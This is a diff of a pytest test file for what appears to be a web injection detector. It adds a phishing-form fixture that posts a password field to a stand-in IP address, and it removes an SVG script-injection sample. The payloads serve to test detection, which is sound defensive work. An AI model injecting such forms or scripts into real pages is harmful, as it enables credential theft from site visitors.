@@ -509,19 +509,22 @@ def test_html_body_is_still_read_as_raw_markup(name: str, body: str, source: str
 
 
 @pytest.mark.parametrize("source", list(SAMPLES))
-def test_undeclared_markup_without_an_xml_declaration_stays_text(source: str) -> None:
-    """Markup under no XML media type that does not declare itself XML may be HTML."""
+def test_markup_under_no_xml_media_type_stays_text(source: str) -> None:
+    """Markup that is not declared XML may be HTML: its raw text is read as before."""
     findings = found(request(source, BENIGN["svg_icon"], "text/plain"))
     assert ("xss", "body") in findings, findings
 
 
-@pytest.mark.parametrize("name", ["atom", "rss", "sitemap", "xhtml", "xmlrpc"])
-def test_body_that_declares_itself_xml_is_read_as_a_document(name: str) -> None:
-    assert found(request("http", BENIGN[name], "text/plain")) == []
-    assert found(request("http", BENIGN[name], "application/octet-stream", encode=True)) == []
+INJECTED_FORM = (
+    '<?xml version="1.0"?><div><form action="https://203.0.113.9/login">'
+    '<input name="password" type="password"/></form></div>'
+)
 
 
-def test_self_declared_document_with_a_script_is_still_found() -> None:
-    body = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>top.x()</script></svg>'
-    findings = found(request("http", body, "text/plain"))
-    assert ("xss", "body<xml>.svg/script#tag") in findings, findings
+def test_an_xml_declaration_does_not_make_a_value_a_document() -> None:
+    """A value reflected into a page is HTML whatever it declares: a phishing form behind an
+    XML declaration is markup injection, with no script-capable tag a document would keep."""
+    as_text = found(request("rest", INJECTED_FORM, "text/plain"))
+    assert ("xss", "body") in as_text, as_text
+    field = found(request("rest", json.dumps({"comment": INJECTED_FORM}), "application/json"))
+    assert ("xss", "body<json>.comment") in field, field
